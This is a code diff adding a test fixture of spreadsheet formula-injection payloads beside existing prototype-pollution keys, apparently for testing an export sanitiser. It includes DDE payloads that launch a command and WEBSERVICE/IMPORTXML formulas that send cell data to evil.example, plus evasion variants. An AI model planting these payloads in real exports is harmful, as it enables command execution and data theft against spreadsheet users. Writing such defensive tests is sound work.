@@ -85,3 +85,35 @@ export const STOLEN_KEYS: Record<string, unknown> = {
 
 /** Bodies, as they are sent, that would change what every object is. */
 export const POLLUTIONS = ["__proto__", "constructor", "prototype", "__defineGetter__", "toString"] as const;
+
+/** What a spreadsheet would work out, ask for or run, were it not told that it is text. PostgreSQL keeps no NUL. */
+export const FORMULAS = [
+  "=1+1",
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example","x")',
+  '=IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
+  '=WEBSERVICE("https://evil.example/"&A1)',
+  '=DDE("cmd";"/C calc";"x")',
+  "+1+1",
+  "+cmd|' /C calc'!A0",
+  "+SUM(1+1)*cmd|' /C calc'!A0",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "-cmd|' /C calc'!A0",
+  "@SUM(1+1)",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\t@SUM(1+1)",
+  "\r=1+1",
+  "\r\n=1+1",
+  "\n=1+1",
+  " =1+1",
+  "\u00a0=1+1",
+  "＝1+1",
+  "＋1+1",
+  "－1+1",
+  "＠SUM(1+1)",
+  '=1+1",=2+2',
+  "x\n=1+1",
+  "'=1+1",
+] as const;
